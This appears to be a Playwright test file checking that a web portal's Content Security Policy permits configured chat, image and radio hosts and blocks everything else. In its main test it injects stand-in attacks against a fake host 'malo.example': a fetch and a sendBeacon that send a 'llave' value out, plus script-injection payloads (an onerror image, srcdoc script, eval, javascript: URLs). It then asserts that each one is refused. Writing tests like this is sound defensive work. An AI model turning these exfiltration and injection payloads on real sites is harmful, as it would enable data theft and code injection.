import type { Page } from '@playwright/test';
import { expect, test } from '../../fixtures/portal.ts';
import { Radio } from '../../fixtures/radio.ts';

const CHAT = 'https://chat.example/sala';

declare global {
  interface Window {
    /** Violations: directive and blocked URL. */
    denied: string[];
  }
}

/** Records violations from the first line of the page. */
const recordDenied = (page: Page) =>
  page.addInitScript(() => {
    window.denied = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      window.denied.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
const denied = (page: Page): Promise<string[]> => page.evaluate(() => window.denied);

/** The chat loads in its frame; a blocked frame shows a browser page instead. */
const expectChat = (page: Page) => expect.poll(() => page.frames().map((frame) => frame.url())).toContain(CHAT);

const expectLoaded = (page: Page, de: string) =>
  expect
    .poll(() =>
      page.evaluate(
        (site) => [...document.images].some(({ src, naturalWidth }) => src.startsWith(site) && naturalWidth > 0),
        de,
      ),
    )
    .toBe(true);

test('configured images, flags, chat and radio load, other sites are blocked, and no script is created @main', async ({
  portal,
}) => {
  await Radio.openRadio(portal);
  await portal.configure({
    chat: CHAT,
    logo: 'https://logo.example:8443/logo.png',
    avatar: 'https://avatares.example/{usuario}.png',
    bandera: 'https://banderas.example/{pais}.svg',
  });
  const page = await portal.openBrowser(await portal.logInAsBoss(), { withServiceWorkers: true, withOtherHosts: true });
  // The next address interrupts pictures that the service worker fetches.
  portal.consoleGuard.allow(/net::ERR_FAILED .*\/placas\//);
  await recordDenied(page);
  await page.goto('/');
  for (const site of ['https://logo.example:8443/', 'https://avatares.example/', 'https://banderas.example/'])
    await expectLoaded(page, site);
  await page.getByRole('button', { name: 'Abrir el chat' }).click();
  await expectChat(page);
  await page.goto('/radio');
  await page.getByRole('button', { name: 'Escuchar' }).click();
  await expect(page.getByText('En el aire')).toBeVisible();
  await expect.poll(() => page.evaluate(() => document.querySelector('audio')?.currentTime ?? 0)).toBeGreaterThan(0);
  expect(await denied(page)).toEqual([]);

  portal.consoleGuard.allow(/Content Security Policy|trusted|TrustedHTML|Refused|malo\.example|violates/i);
  const headCheck = page.waitForResponse((r) => r.request().method() === 'HEAD');
  const errors = await page.evaluate(async () => {
    const addElement = <K extends keyof HTMLElementTagNameMap>(
      que: K,
      attributes: Partial<Record<'src' | 'href' | 'rel' | 'type' | 'data' | 'srcdoc', string>>,
    ) => {
      const element = document.createElement(que);
      for (const [name, valor] of Object.entries(attributes)) element.setAttribute(name, valor);
      document.body.append(element);
      return element;
    };
    addElement('img', { src: 'https://malo.example/a.png' });
    addElement('iframe', { src: 'https://malo.example/' });
    addElement('audio', { src: 'https://malo.example/a.wav' });
    addElement('link', { rel: 'stylesheet', href: 'https://malo.example/a.css' });
    addElement('base', { href: 'https://malo.example/' });
    addElement('form', {}).setAttribute('style', 'color: red');
    await fetch('https://malo.example/?llave=1').catch(() => undefined);
    navigator.sendBeacon('https://malo.example/', 'llave');
    const mark: string[] = [];
    Object.assign(window, { marca: mark });
    const attempts: [string, () => unknown][] = [
      ['object', () => addElement('object', { data: 'https://malo.example/a' })],
      ['innerHTML', () => (addElement('div', {}).innerHTML = '<img src=x onerror="marca.push(1)">')],
      ['onclick', () => addElement('div', {}).setAttribute('onclick', 'marca.push(2)')],
      ['script src', () => addElement('script', { src: 'https://malo.example/a.js' })],
      ['script', () => (document.createElement('script').textContent = 'marca.push(3)')],
      ['srcdoc', () => addElement('iframe', { srcdoc: '<script>parent.marca.push(4)</script>' })],
      // biome-ignore lint/security/noGlobalEval: the test asserts that eval is blocked
      ['eval', () => window.eval('marca.push(5)')],
      ['Function', () => new Function('marca.push(6)')()],
      ['Worker', () => new Worker('https://malo.example/a.js')],
      ['write', () => document.write('<script>marca.push(7)</script>')],
      ['obrero', () => navigator.serviceWorker.register('/otro.js')],
      // biome-ignore lint/suspicious/noExplicitAny: TypeScript has no type for trustedTypes
      ['politica', () => (window as any).trustedTypes.createPolicy('otra', { createHTML: (t: string) => t })],
    ];
    const allowed: string[] = [];
    for (const [name, attempt] of attempts)
      try {
        // In a timer, because code evaluated by browser tools is exempt from the policy.
        await new Promise((result, denied) => setTimeout(() => void (async () => attempt())().then(result, denied)));
        allowed.push(name);
      } catch {
        // Expected: the attempt is blocked.
      }
    location.href = 'javascript:marca.push(8)';
    const enlace = document.createElement('a');
    enlace.href = 'javascript:marca.push(9)';
    document.body.append(enlace);
    enlace.click();
    await new Promise((resume) => setTimeout(resume, 100));
    return { allowed, mark };
  });
  expect(errors).toEqual({ allowed: [], mark: [] });
  // On a violation the page checks for a newer policy; here there is none.
  expect((await headCheck).ok()).toBe(true);
  await expect(page.getByRole('button', { name: /Versión nueva/ })).toBeHidden();
  const seen = await denied(page);
  for (const rule of [
    'img-src https://malo.example/a.png',
    'frame-src https://malo.example',
    'media-src https://malo.example/a.wav',
    'style-src-elem https://malo.example/a.css',
    'base-uri https://malo.example/',
    'style-src-attr inline',
    'connect-src https://malo.example/?llave=1',
    'require-trusted-types-for trusted-types-sink',
    'trusted-types trusted-types-policy',
  ])
    expect(seen).toContain(rule);
});

test('a page with an outdated policy says so and shows the chat after a reload', async ({ portal }) => {
  const boss = await portal.logInAsBoss();
  const page = await portal.openPage('/', boss, { withOtherHosts: true });
  await recordDenied(page);
  portal.consoleGuard.allow(/Content Security Policy|violates/i);
  await portal.sendRequest('editAjustes', { body: { data: { chat: CHAT } }, key: boss.key });
  await page.getByRole('button', { name: 'Abrir el chat' }).click();
  await page.getByRole('button', { name: 'Versión nueva Actualizar' }).click();
  await expectChat(page);
  expect(await denied(page)).toEqual([]);
});

test("the page in the service worker's cache has the policy of the last visit, and always its script rules", async ({
  portal,
}) => {
  const boss = await portal.logInAsBoss();
  await portal.configure({ chat: CHAT });
  const page = await portal.openPage('/', boss, { withServiceWorkers: true, withOtherHosts: true });
  const rules = () =>
    page.evaluate(async () => {
      const saved = await caches.match('/', { cacheName: 'conserje-casa', ignoreVary: true });
      return saved?.headers.get('content-security-policy')?.split(';') ?? [];
    });
  await expect.poll(rules).toContain('frame-src https://chat.example');
  expect(await rules()).toEqual(
    expect.arrayContaining(["script-src 'self'", "require-trusted-types-for 'script'", "object-src 'none'"]),
  );
  await portal.sendRequest('editAjustes', { body: { data: { chat: null } }, key: boss.key });
  await page.reload();
  await expect.poll(rules).toContain("frame-src 'none'");
});

test('the API documentation opens under its own policy, without external resources', async ({ portal }) => {
  const page = await portal.openBrowser(null);
  await recordDenied(page);
  await page.goto('/api/docs/');
  // The documentation renders all calls before it shows one.
  const call = page.getByRole('link', { name: '/api/configuracion', exact: true });
  await expect(call).toBeVisible({ timeout: 90_000 });
  await expect(page.getByText('Configuración de la agencia').first()).toBeVisible();
  expect(await denied(page)).toEqual([]);
});
